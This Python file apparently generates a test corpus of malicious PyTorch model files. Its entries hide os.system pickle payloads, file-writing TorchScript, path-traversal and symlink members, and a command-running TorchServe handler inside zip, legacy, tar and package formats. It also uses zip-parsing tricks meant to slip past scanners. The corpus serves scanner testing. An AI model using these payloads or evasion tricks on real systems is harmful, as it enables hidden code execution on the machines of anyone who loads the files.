"""PyTorch's containers: zip, legacy, tar, TorchScript, packages, and what surrounds them."""
import io
import tarfile
import zlib

import zips
from asm import *
from book import add
from native import SO
from zips import Entry

D = "torch/"
FS = glob("torch", "FloatStorage")


def pid(key="0", kind=FS, n=4, loc="cpu"):
    return lit(("storage", kind, key, loc, n)) + BINPERSID


def tensor(key="0", n=4, offset=0, size=None, stride=(1,), kind=FS):
    return call(("torch._utils", "_rebuild_tensor_v2"), pid(key, kind, n), offset, size or (n,), stride, False, call(("collections", "OrderedDict")))


STATE = lit({"fc.weight": tensor("0"), "fc.bias": tensor("1")})
GOOD = p2(STATE)
BAD = p2(RUN, POP, STATE)
RAW = b"\x00\x00\x80?" * 4


def files(data=BAD, root="archive", extra=()):
    r = root + "/" if root else ""
    return [(r + "data.pkl", data), (r + "data/0", RAW), (r + "data/1", RAW), (r + "version", b"3\n")] + list(extra)


def A(name, data, technique, gives="execute", loader="torch.load", note="", ext=".pt", **kw):
    add(D + name + ext, data, technique, gives, loader=loader, note=note, **kw)


def accepted(name, data, technique, by, gives="execute", loader="none", **kw):
    A(name, data, technique, gives, loader, accepted_by=by, **kw)


def E(*a, **k):
    return Entry(*a, **k)


# The zip format.
A("zip-data-pkl", zips.plain(files()), "data.pkl calls os.system before the state dict")
A("zip-value", zips.plain(files(p2(lit({"fc.weight": tensor("0"), "epoch": RUN})))), "one value of the state dict is a call")
A("zip-tensor-argument", zips.plain(files(p2(lit({"w": call(("torch._utils", "_rebuild_tensor_v2"), pid("0"), 0, (4,), (1,), False, code(RUN, POP, call(("collections", "OrderedDict"))))})))), "the call stands among the arguments of _rebuild_tensor_v2")
A("zip-storage-type", zips.plain(files(p2(lit({"w": tensor("0", kind=code(RUN, POP, FS))})))), "the call stands inside a persistent id")
A("zip-persid-key", zips.plain(files(p2(lit({"w": tensor(call(("builtins", "str"), RUN))})))), "the key of a storage is the result of a call", note="the storage does not exist; the call came first")
A("zip-backward-hooks", zips.plain(files(p2(build(call(("torch._utils", "_rebuild_parameter"), tensor("0"), True, call(("collections", "OrderedDict"), [("h", RUN)])), {})))), "the call stands among the hooks of a parameter")
A("zip-optimizer-state", zips.plain(files(p2(lit({"state": {0: {"step": 1, "exp_avg": tensor("0")}}, "param_groups": [{"lr": 0.1, "params": [0], "hook": RUN}]})))), "the call stands in an optimiser's param_groups")
A("zip-module-sequential", zips.plain(files(p2(call(glob("builtins", "getattr"), build(new(("torch.nn.modules.container", "Sequential")), {"_modules": {"0": SYSTEM}, "training": False, "_parameters": {}, "_buffers": {}, "_backward_hooks": {}, "_forward_hooks": {}, "_forward_pre_hooks": {}}), "forward"), MEMOIZE, POP, call(binget(0), CMD)))), "a Sequential whose module is os.system, and its forward called with the command", note="MEMOIZE under protocol 2")
A("zip-rebuild-from-type", zips.plain(files(p2(call(("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, glob("torch", "Tensor"), (CMD,), {})))), "torch._tensor._rebuild_from_type_v2 calls what it is given")
A("zip-load-from-bytes", zips.plain(files(p2(call(("torch.storage", "_load_from_bytes"), EVIL)))), "torch.storage._load_from_bytes unpickles bytes", gives="deserialize")
A("zip-deflated", zips.build([E("archive/data.pkl", BAD, method=8), E("archive/data/0", RAW), E("archive/data/1", RAW), E("archive/version", b"3\n")]), "data.pkl is deflated")

def five(first, second):
    """Torch's reader sorts names and searches by halving: with these five entries it finds the earlier of two equal
    names; with other counts the later one."""
    return zips.build([E("archive/version", b"3\n"), first, second, E("archive/data/0", RAW), E("archive/data/1", RAW)])


A("zip-duplicate-first", five(E("archive/data.pkl", BAD), E("archive/data.pkl", GOOD)), "data.pkl twice: torch reads the first, which is hostile, Python's zipfile the last")
A("zip-duplicate-last", zips.build([E("archive/data.pkl", p2(lit({}))), E("archive/version", b"3\n"), E("archive/data.pkl", p2(RUN))]), "data.pkl twice: torch reads the last, which is hostile")
A("zip-duplicate-last-zipfile", zips.build([E("archive/data.pkl", GOOD)] + [E(*f) for f in files()[1:]] + [E("archive/data.pkl", BAD)]), "data.pkl twice: Python's zipfile reads the last, which is hostile; torch here the first", loader="zip archive/data.pkl > pickle", on=["3.11"], note="tensors need torch's persistent_load; the call comes first")
A("zip-duplicate-case", zips.build([E("archive/DATA.PKL", BAD)] + [E(*f) for f in files(GOOD)[1:]]), "DATA.PKL in capitals: torch's reader finds it without regard to case")
A("zip-duplicate-case-two", five(E("archive/DATA.PKL", BAD), E("archive/data.pkl", GOOD)), "DATA.PKL and data.pkl: torch reads the first, which is hostile; a search for data.pkl finds the benign one")
A("zip-local-name-differs", zips.build([E("archive/data.pkl", BAD, local_name="archive/notes.txt")] + [E(*f) for f in files()[1:]]), "the local header calls data.pkl notes.txt")
A("zip-central-name-differs", zips.build([E("archive/data.pkl", BAD, local_name="archive/data/9")] + [E(*f) for f in files()[1:]]), "the local header says that the pickle is a tensor")
A("zip-offset-to-hidden-local", zips.build([E("archive/data.pkl", BAD, local_name="hidden"), E("archive/data.pkl", GOOD, no_central=True)] + [E(*f) for f in files()[1:]]), "the directory leads to a local entry of another name; a walk of local headers sees a benign data.pkl")
A("zip-bytes-between", zips.build([E("archive/version", b"3\n"), E("archive/data.pkl", p2(RUN), pre=b"\x00" * 333)], gap=b"\xff" * 99), "bytes between the entries and before the directory")
A("zip-crc-wrong", zips.build([E("archive/data.pkl", BAD, crc=0x12345678)] + [E(*f) for f in files()[1:]]), "a wrong CRC: Python's zipfile refuses, torch does not look (CVE-2025-10156)")
A("zip-crc-zero", zips.build([E("archive/data.pkl", BAD, crc=0)] + [E(*f) for f in files()[1:]]), "a CRC of zero")
A("zip-flag-encrypted-local", zips.build([E("archive/data.pkl", BAD, local_flags=1)] + [E(*f) for f in files()[1:]]), "the encrypted flag in the local header of plain data")
A("zip-flag-encrypted-both", zips.build([E("archive/data.pkl", BAD, flags=1)] + [E(*f) for f in files()[1:]]), "the encrypted flag on plain data in both headers", accepted_by="readers that ignore the flag; torch and zipfile refuse, scanners skip encrypted members", loader="none")
A("zip-flag-encrypted-other-member", zips.build([E(*f) for f in files()] + [E("archive/README", b"x", flags=1)]), "another member carries the encrypted flag", loader="torch.load")
A("zip-local-method-differs", zips.build([E("archive/data.pkl", BAD, local_method=99)] + [E(*f) for f in files()[1:]]), "the local header says method 99 (AES), the directory stored")
A("zip-descriptor", zips.build([E("archive/data.pkl", BAD, descriptor=True)] + [E(*f) for f in files()[1:]]), "sizes only in a data descriptor")
A("zip-local-sizes-lie", zips.build([E("archive/data.pkl", BAD)] + [E(*f) for f in files()[1:]]).replace(struct.pack("<II", len(BAD), len(BAD)), struct.pack("<II", 1, 1), 1), "the local header says that data.pkl has one byte")
A("zip-comment", zips.plain(files(), comment=b"weir " * 100), "a long comment on the archive")
accepted("zip-comment-end-record", zips.plain(files(), comment=b"PK\x05\x06" + b"\x00" * 60), "the archive's comment holds an end record of an empty archive", "7z, which lists the hostile files; torch and unzip see an empty archive")
A("zip-suffix", zips.plain(files(), suffix=b"\x00" * 500), "bytes after the end record")
A("zip-no-root", zips.plain(files(root="")), "no top folder", loader="zip data.pkl > pickle", on=["3.11"], note="torch 1.13 wants a folder; readers that look for any data.pkl do not")
A("zip-odd-root", zips.plain(files(root="a.b c")), "an odd top folder")
A("zip-deep-root", zips.plain([("x/y/data.pkl", BAD), ("x/version", b"3\n"), ("x/data.pkl", BAD), ("x/data/0", RAW), ("x/data/1", RAW)]), "two folders with a data.pkl")
A("zip-newer-layout", zips.plain(files(extra=[("archive/byteorder", b"little"), ("archive/.data/serialization_id", b"1" * 40), ("archive/.format_version", b"1"), ("archive/.storage_alignment", b"64")])), "the layout of torch 2.x, made by hand from the specification")
A("zip-big-endian", zips.plain(files(extra=[("archive/byteorder", b"big")])), "byteorder big, made by hand")
A("zip-version-odd", zips.plain([("archive/data.pkl", BAD), ("archive/data/0", RAW), ("archive/data/1", RAW), ("archive/version", b"10\n")]), "version 10")
A("zip-name-traversal", zips.plain(files(extra=[("archive/../../weir-canary", b"x")])), "a member called ../../weir-canary beside the hostile pickle")
ok = "torch.load reads the state dict and ignores the member; an unpacker follows it"
for slug, name in (("dotdot", "archive/../../../weir-canary"), ("absolute", "/weir-canary"), ("backslash", "archive/..\\..\\weir-canary"), ("drive", "C:/weir-canary"), ("nul", "archive/a.txt\x00.pkl"), ("unc", "//host/share/weir-canary"), ("newline", "archive/a\nb"), ("not-utf8", b"archive/\xff\xfe.pkl")):
    by = "unpackers; torch.load refuses" if slug in ("absolute", "drive", "unc", "not-utf8") else ok
    accepted("zip-member-" + slug, zips.plain(files(GOOD, extra=[(name, b"weir\n")])), "a member called %r in a benign model" % name, by, gives="file-write")
accepted("zip-member-symlink", zips.build([E(*f) for f in files(GOOD)] + [E("archive/link", b"/etc/passwd", attr=0o120777 << 16, madeby=0x0314)]), "a member that is a symbolic link to /etc/passwd", ok, gives="file-read")
accepted("zip-member-setuid", zips.build([E(*f) for f in files(GOOD)] + [E("archive/run", b"#!/bin/sh\n", attr=0o104755 << 16, madeby=0x0314)]), "a set-uid member", ok)
A("zip-extra-pickle", zips.plain(files(GOOD, extra=[("archive/extra.pkl", EVIL)])), "a hostile pickle beside a benign data.pkl", loader="zip archive/extra.pkl > pickle", on=["3.11"])
A("zip-extra-pickle-no-name", zips.plain(files(GOOD, extra=[("archive/data/2", EVIL)])), "a hostile pickle in the place of a storage that no tensor names", loader="zip archive/data/2 > pickle", on=["3.11"])
A("zip-storage-is-pickle", zips.plain([("archive/data.pkl", GOOD), ("archive/data/0", EVIL[:16].ljust(16, b"\0")), ("archive/data/1", (EVIL + b"\0" * 16)[:64]), ("archive/version", b"3\n")]), "the bytes of a storage are a hostile pickle, longer than its tensor", loader="zip archive/data/1 > pickle", on=["3.11"])
A("zip-second-pickle-in-data", zips.plain(files(GOOD + EVIL)), "data.pkl has a second pickle after its STOP", loader="zip archive/data.pkl > carve %d > pickle" % len(GOOD), on=["3.11"])
A("zip-truncated-data", zips.plain(files(proto(2) + RUN + b"X\xff")), "data.pkl breaks after the call")
A("zip-nested", zips.plain([("inner/model.pt", zips.plain(files()))]), "a model inside a zip", loader="zip inner/model.pt > torch.load", ext=".zip")
inner = io.BytesIO()
with tarfile.open(fileobj=inner, mode="w") as t:
    ti = tarfile.TarInfo("m.zip")
    z = zips.plain([("inner/model.pt", zips.plain(files()))])
    ti.size = len(z)
    t.addfile(ti, io.BytesIO(z))
A("zip-in-zip-in-tar", inner.getvalue(), "a model in a zip in a tar", loader="tar m.zip > zip inner/model.pt > torch.load", ext=".tar")
A("polyglot-pickle-then-zip", EVIL + zips.plain(files(GOOD), base=0), "a hostile pickle, then a benign zip: torch reads the pickle because the file does not start with PK, zip readers find the directory at the end")
A("polyglot-pickle-then-zip-adjusted", zips.plain(files(GOOD), prefix=EVIL), "the same with offsets that count the prefix")
A("polyglot-zip-then-pickle", zips.plain(files(GOOD)) + EVIL, "a benign zip, then a hostile pickle", loader="carve %d > pickle" % len(zips.plain(files(GOOD))), on=["3.11"])
A("zip-wrong-extension", zips.plain(files()), "a model that is called .png", ext=".png")
A("zip-extension-safetensors", zips.plain(files()), "a model that is called .safetensors", ext=".safetensors")
A("zip-extension-bin", zips.plain(files()), "pytorch_model.bin", ext=".bin")
A("zip-zip64", zips.build([E("archive/data.pkl", BAD, csize=0xFFFFFFFF, usize=0xFFFFFFFF, extra=struct.pack("<HHQQ", 1, 16, len(BAD), len(BAD)), ver=45)] + [E(*f) for f in files()[1:]]), "the sizes of data.pkl stand in a zip64 field")
A("zip-zip64-lie", zips.build([E("archive/data.pkl", BAD, extra=struct.pack("<HHQQ", 1, 16, 1, 1), ver=45)] + [E(*f) for f in files()[1:]]), "a zip64 field that nobody needs says one byte")
A("zip-unicode-path-extra", zips.build([E("archive/data.pkl", BAD, extra=struct.pack("<HHBI", 0x7075, 5 + 17, 1, zlib.crc32(b"archive/data.pkl")) + b"archive/notes.txt")] + [E(*f) for f in files()[1:]]), "a unicode path field gives data.pkl another name")
A("zip-central-comment", zips.build([E("archive/data.pkl", BAD, comment=b"x" * 300)] + [E(*f) for f in files()[1:]]), "a comment on the entry")
A("zip-many-members", zips.plain(files(extra=[("archive/pad/%d" % i, b"") for i in range(400)])), "four hundred empty members")
A("zip-count-lies", zips.build([E("archive/version", b"3\n"), E("archive/data.pkl", p2(RUN)), E("archive/data/0", RAW)], count=2), "the end record counts two entries of three", loader="torch.load")
A("zip-data-pkl-in-subfolder-of-code", zips.plain(files(extra=[("archive/data/data.pkl", EVIL)])), "a second data.pkl below data/")

# Tensors that do not fit.
A("tensor-storage-missing", zips.plain([("archive/data.pkl", p2(lit({"w": tensor("7")}))), ("archive/version", b"3\n")]), "a tensor whose storage is not in the archive", gives="crash", loader="none", accepted_by="nothing here: torch.load refuses; kept because a reader must say so")
A("tensor-out-of-bounds", zips.plain(files(p2(lit({"w": tensor("0", size=(1 << 20,))})))), "a tensor larger than its storage", gives="crash", loader="none", accepted_by="nothing here: torch.load refuses; kept because a reader must say so")
A("tensor-negative-stride", zips.plain(files(p2(lit({"w": tensor("0", stride=(-1,))})))), "a negative stride", gives="crash", loader="none", accepted_by="nothing here: torch.load refuses; kept because a reader must say so")
A("tensor-as-strided-read", zips.plain(files(p2(lit({"w": call(glob("builtins", "str"), call(("torch", "as_strided"), tensor("0"), (1,), (1,), 1 << 40))})))), "torch.as_strided with an offset far outside", gives="crash", loader="none", accepted_by="nothing here: torch refuses; kept because a reader must say so")
A("tensor-storage-short", zips.plain([("archive/data.pkl", p2(lit({"w": tensor("0", n=1 << 16)}))), ("archive/data/0", RAW), ("archive/version", b"3\n")]), "the storage record says 65,536 floats, the member has four", gives="crash", canary="crash")

# The legacy format: five pickles, then the storages.
MAGIC = p2(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little"))
PROTO_V = p2(lit(1001))
SYSINFO = p2(lit({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}))


def lpid(key="0"):
    return lit(("storage", FS, key, "cpu", 4, None)) + BINPERSID


def ltensor(key="0"):
    return call(("torch._utils", "_rebuild_tensor_v2"), lpid(key), 0, (4,), (1,), False, call(("collections", "OrderedDict")))


LMAIN = p2(lit({"w": ltensor()}))
KEYS = p2(lit(["0"]))
LRAW = struct.pack("<q", 4) + RAW
legacy = [MAGIC, PROTO_V, SYSINFO, LMAIN, KEYS]
for i, what in enumerate(("magic", "protocol", "sysinfo", "object", "keys")):
    parts = list(legacy)
    parts[i] = parts[i][:2] + RUN + POP + parts[i][2:]
    A("legacy-" + what, b"".join(parts) + LRAW, "legacy format: the %s pickle is hostile" % what)
A("legacy-not-torch", EVIL, "torch.load of a plain pickle: its first pickle is the payload")
A("legacy-after-storages", b"".join(legacy) + LRAW + EVIL, "legacy format: a pickle after the storages", loader="carve %d > pickle" % (len(b"".join(legacy)) + len(LRAW)), on=["3.11"])
A("legacy-protocol0", MAGIC + PROTO_V + SYSINFO + p0(inst("os", "system", raw_text(CMD))) + KEYS, "legacy format: the object is a protocol 0 pickle")
A("legacy-storage-module", b"".join([MAGIC, PROTO_V, SYSINFO, p2(glob("os", "FloatStorage"), POP, RUN), KEYS]), "legacy format: a name with Storage in it is replaced by torch, whatever its module")
NSP = glob("argparse", "Namespace")
A("legacy-module-patch", b"".join([MAGIC, PROTO_V, SYSINFO, p2(build(NSP, (None, {"dump_patches": True, "__name__": "weir-canary"})), POP, lit(("module", NSP, "weir.py", "weir\n")) + BINPERSID), p2(lit([]))]), "legacy format: a module's persistent id carries source; with dump_patches torch writes a patch file named after the class", gives="file-write")
A("legacy-truncated", MAGIC + PROTO_V + SYSINFO + proto(2) + RUN, "legacy format, cut after the call")

# The older tar format.


def tar(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            t.addfile(ti, io.BytesIO(data))
    return out.getvalue()


EMPTY_STORAGES = p2(lit(0)) + p2(lit([]))
A("tar-storages", tar([("storages", EVIL + p2(lit([]))), ("tensors", p2(lit(0))), ("pickle", p2(lit({})))]), "old tar format: the member storages is hostile")
A("tar-tensors", tar([("storages", EMPTY_STORAGES), ("tensors", EVIL), ("pickle", p2(lit({})))]), "old tar format: the member tensors is hostile")
A("tar-pickle", tar([("storages", EMPTY_STORAGES), ("tensors", p2(lit(0))), ("pickle", EVIL)]), "old tar format: the member pickle is hostile")
A("tar-storage-views", tar([("storages", p2(lit(0)) + EVIL), ("tensors", p2(lit(0))), ("pickle", p2(lit({})))]), "old tar format: the second pickle of storages is hostile")
link = io.BytesIO()
with tarfile.open(fileobj=link, mode="w", format=tarfile.PAX_FORMAT) as t:
    ti = tarfile.TarInfo("storages")
    ti.type, ti.linkname = tarfile.SYMTYPE, "payload"
    t.addfile(ti)
    for name, data in (("payload", EMPTY_STORAGES), ("tensors", p2(lit(0))), ("pickle", EVIL)):
        ti = tarfile.TarInfo(name)
        ti.size = len(data)
        t.addfile(ti, io.BytesIO(data))
A("tar-symlink-member", link.getvalue(), "old tar format: storages is a symbolic link, the pickle is hostile", loader="tar pickle > pickle", on=["3.11"])
A("tar-pickle-duplicate", tar([("storages", EMPTY_STORAGES), ("tensors", p2(lit(0))), ("pickle", p2(lit({}))), ("pickle", EVIL)]), "old tar format: pickle twice, the last one counts")

# TorchScript.
TS = """class M(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  x : int
  def forward(self: __torch__.M,
    t: Tensor) -> Tensor:
%s    return t
  def __getstate__(self: __torch__.M) -> Tuple[int, bool]:
    return (self.x, self.training)
  def __setstate__(self: __torch__.M,
    s: Tuple[int, bool]) -> NoneType:
    self.x = (s)[0]
    self.training = (s)[1]
%s    return None
"""
OBJ_PKL = p2(glob("__torch__", "M"), EMPTY_TUPLE, NEWOBJ, b"K\x01", TRUE, T2, BUILD)


def ts(setstate="", forward="", extra=(), root="m", data=OBJ_PKL, constants=p2(EMPTY_TUPLE), code_text=None, code_name="code/__torch__.py", method=8):
    src = code_text if code_text is not None else TS % (forward, setstate)
    r = root + "/" if root else ""
    return zips.build([E(r + "data.pkl", data), E(r + code_name, src.encode(), method=method), E(r + "constants.pkl", constants), E(r + "version", b"3\n")] + [E(r + n, d) for n, d in extra])


def J(name, data, technique, gives="file-write", loader="torch.jit.load", **kw):
    A(name, data, technique, gives, loader=loader, **kw)


SAVE = '    torch.save(torch.ones([1]), "%s")\n'
FROM = '    _0 = torch.from_file("%s", True, 4)\n    print(torch.size(_0))\n'
J("script-setstate-save", ts(SAVE % "weir-canary"), "TorchScript: __setstate__ writes a file by torch.save when loaded")
J("script-setstate-absolute", ts(SAVE % "/proc/self/cwd/weir-canary"), "TorchScript: __setstate__ writes to an absolute path")
J("script-setstate-dotdot", ts(SAVE % "../cwd/weir-canary"), "TorchScript: __setstate__ writes to a path with ..")
J("script-setstate-from-file", ts(FROM % "weir-canary"), "TorchScript: aten::from_file with shared=True makes a file")
J("script-setstate-ops-aten-save", ts('    ops.aten.save(1, "weir-canary")\n'), "TorchScript: the operator is spelled ops.aten.save")
J("script-setstate-concat", ts('    p = torch.add("weir-", "canary")\n    torch.save(1, p)\n'), "TorchScript: the path is concatenated")
J("script-setstate-format", ts('    p = torch.format("weir-{}", "canary")\n    torch.save(1, p)\n'), "TorchScript: the path is formatted")
J("script-setstate-escape", ts('    torch.save(1, "weir\\055canary")\n'), "TorchScript: the path holds an escape")
J("script-setstate-join", ts('    p = torch.join("-", ["weir", "canary"])\n    torch.save(1, p)\n'), "TorchScript: the path is joined from a list")
J("script-setstate-loop", ts('    for i in range(1):\n      torch.save(i, "weir-canary")\n'), "TorchScript: the write stands in a loop")
J("script-setstate-branch", ts('    if torch.gt((s)[0], 0):\n      torch.save(1, "weir-canary")\n    else:\n      pass\n'), "TorchScript: the write stands in a branch")
J("script-setstate-function", ts(code_text="def write(p: str) -> NoneType:\n  torch.save(1, p)\n  return None\n" + (TS % ("", '    _0 = __torch__.write("weir-canary", )\n'))), "TorchScript: the write stands in a function of the archive")
J("script-setstate-path-from-state", ts(code_text=(TS % ("", "    torch.save(1, (s)[2])\n")).replace("Tuple[int, bool]", "Tuple[int, bool, str]").replace("return (self.x, self.training)", 'return (self.x, self.training, "")'), data=p2(glob("__torch__", "M"), EMPTY_TUPLE, NEWOBJ, b"K\x01", TRUE, binuni("weir-canary"), T3, BUILD)), "TorchScript: the path comes out of data.pkl, the code only says save(x, s[2])")
J("script-forward-save", ts(forward=SAVE % "weir-canary"), "TorchScript: forward writes a file", loader="torch.jit.load:forward")
J("script-forward-from-file", ts(forward=FROM % "weir-canary"), "TorchScript: forward maps a file into memory, which makes it", loader="torch.jit.load:forward")
J("script-deferred-forward", ts(forward=SAVE % "weir-canary" + "    print(1)\n"), "TorchScript: forward writes, and torch.load takes the archive for a script", loader="none", accepted_by="torch.load, torch.jit.load; runs when the model is called")
J("script-torch-load", ts(SAVE % "weir-canary"), "a TorchScript archive given to torch.load, which passes it to torch.jit.load", loader="torch.load")
J("script-torch-load-weights-only", ts(SAVE % "weir-canary" + "    print(1)\n"), "a TorchScript archive under weights_only=True still runs (CVE-2025-32434)", loader="torch.load:weights_only")
J("script-stored-code", ts(SAVE % "weir-canary", method=0), "TorchScript whose code is stored, not deflated")
J("script-submodule", zips.build([E("m/data.pkl", p2(glob("__torch__", "N"), EMPTY_TUPLE, NEWOBJ, EMPTY_DICT + MARK + binuni("training") + TRUE + binuni("sub") + glob("__torch__.deep.er", "M") + EMPTY_TUPLE + NEWOBJ + b"K\x01" + TRUE + T2 + BUILD + SETITEMS, BUILD)),
    E("m/code/__torch__.py", b"class N(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n  sub : __torch__.deep.er.M\n  def forward(self: __torch__.N,\n    t: Tensor) -> Tensor:\n    return t\n"),
    E("m/code/__torch__/deep/er.py", (TS % ("", SAVE % "weir-canary")).replace("__torch__.M", "__torch__.deep.er.M").encode()), E("m/constants.pkl", p2(EMPTY_TUPLE)), E("m/version", b"3\n")]), "TorchScript: the __setstate__ of a submodule in another source file writes")
J("script-unused-name", ts(code_text=(TS % ("", SAVE % "weir-canary")).replace("__torch__.M", "__torch__.torch.nn.modules.linear.Linear").replace("class M", "class Linear"), code_name="code/__torch__/torch/nn/modules/linear.py", data=p2(glob("__torch__.torch.nn.modules.linear", "Linear"), EMPTY_TUPLE, NEWOBJ, b"K\x01", TRUE, T2, BUILD)), "TorchScript: the class is called torch.nn.modules.linear.Linear and writes")
J("script-extra-pickle", ts(extra=[("extra/model.pkl", EVIL)]), "TorchScript with a hostile pickle among its extra files", gives="execute", loader="zip m/extra/model.pkl > pickle", on=["3.11"])
J("script-hostile-constants", ts(constants=EVIL), "TorchScript whose constants.pkl is hostile", gives="execute", loader="zip m/constants.pkl > pickle", on=["3.11"], note="torch's C++ unpickler refuses the name; whoever reads it in Python runs it")
J("script-hostile-data", ts(data=EVIL), "TorchScript whose data.pkl is hostile", gives="execute", loader="zip m/data.pkl > pickle", on=["3.11"], note="torch's C++ unpickler refuses the name; whoever reads it in Python runs it")
J("script-debug-pkl", ts(extra=[("code/__torch__.py.debug_pkl", EVIL)]), "TorchScript whose debug_pkl is hostile", gives="execute", loader="zip m/code/__torch__.py.debug_pkl > pickle", on=["3.11"])
J("script-infinite-loop", ts("    while True:\n      pass\n"), "TorchScript: __setstate__ never ends", gives="crash", canary="crash")

# torch.package.
pkg = [("p/.data/extern_modules", b"os\n"), ("p/.data/version", b"6\n"), ("p/.data/python_version", b"3.11.2\n"), ("p/byteorder", b"little")]
A("package-source", zips.plain(pkg + [("p/evil/__init__.py", PY.encode() + b"\n"), ("p/model/model.pkl", p2(glob("evil", "open")))]), "torch.package: loading the pickle imports hostile source from the archive", loader="torch.package:model/model.pkl", gives="import")
A("package-import-module", zips.plain(pkg + [("p/evil/__init__.py", PY.encode() + b"\n")]), "torch.package: importing runs hostile source", loader="torch.package:import/evil", gives="import")
A("package-pickle", zips.plain(pkg + [("p/model/model.pkl", p2(RUN))]), "torch.package: the pickle calls os.system, an extern module", loader="torch.package:model/model.pkl")
A("package-pickle-posix", zips.plain(pkg[1:] + [("p/.data/extern_modules", b"posix\nsubprocess\n"), ("p/model/model.pkl", EVIL_POSIX)]), "torch.package: extern_modules lists posix", loader="torch.package:model/model.pkl")
A("package-submodule", zips.plain(pkg + [("p/lib/__init__.py", b""), ("p/lib/deep/__init__.py", b""), ("p/lib/deep/act.py", b"import os\nos.system('%s')\n" % CMD.encode()), ("p/model/model.pkl", p2(glob("lib.deep.act", "os")))]), "torch.package: a deep submodule runs when named", loader="torch.package:model/model.pkl", gives="import")

# Checkpoints and archives of other tools.
A("dcp-metadata", EVIL, "the .metadata of a distributed checkpoint is a pickle", loader="pickle", on=["3.11"], ext=".metadata", note="torch.distributed.checkpoint reads it by pickle.load")
MAR = [("MAR-INF/MANIFEST.json", b'{"runtime": "python", "model": {"modelName": "weir", "serializedFile": "model.pt", "handler": "handler.py", "modelVersion": "1.0"}, "archiverVersion": "0.8.2"}'),
       ("handler.py", b"import os\nos.system('%s')\n\n\ndef handle(data, context):\n    return data\n" % CMD.encode())]
accepted("torchserve", zips.plain(MAR + [("model.pt", zips.plain(files(GOOD)))]), "a TorchServe archive whose handler runs a command", "zipfile; TorchServe imports the handler", ext=".mar")
accepted("torchserve-requirements", zips.plain([MAR[0], ("handler.py", b"def handle(data, context):\n    return data\n"), ("requirements.txt", b"--index-url http://127.0.0.1:9/\nweir-canary\n")]), "a TorchServe archive whose requirements name an index", "zipfile; TorchServe installs them when told to", gives="network", ext=".mar")
A("torchserve-model", zips.plain(MAR[:1] + [("handler.py", b"def handle(data, context):\n    return data\n"), ("model.pt", zips.plain(files()))]), "a TorchServe archive with a hostile model", loader="zip model.pt > torch.load", ext=".mar")
accepted("aotinductor-so", zips.plain([("m/archive_format", b"pt2"), ("m/archive_version", b"0"), ("m/byteorder", b"little"), ("m/data/aotinductor/model/model.so", SO), ("m/data/aotinductor/model/model.cpp", b"// generated\n")]), "a .pt2 archive with a native library that makes weir-canary when loaded (x86-64)", "torch 2.x loads the library; made by hand from the specification", gives="native", ext=".pt2")
accepted("export-constants", zips.plain([("m/archive_format", b"pt2"), ("m/archive_version", b"0"), ("m/byteorder", b"little"), ("m/models/model.json", b'{"graph_module": {}}'), ("m/data/constants/model_constants_config.json", b"{}"), ("m/data/sample_inputs/model.pt", zips.plain(files()))]), "a .pt2 archive whose sample inputs are a hostile model", "torch 2.x reads sample inputs by torch.load", ext=".pt2")
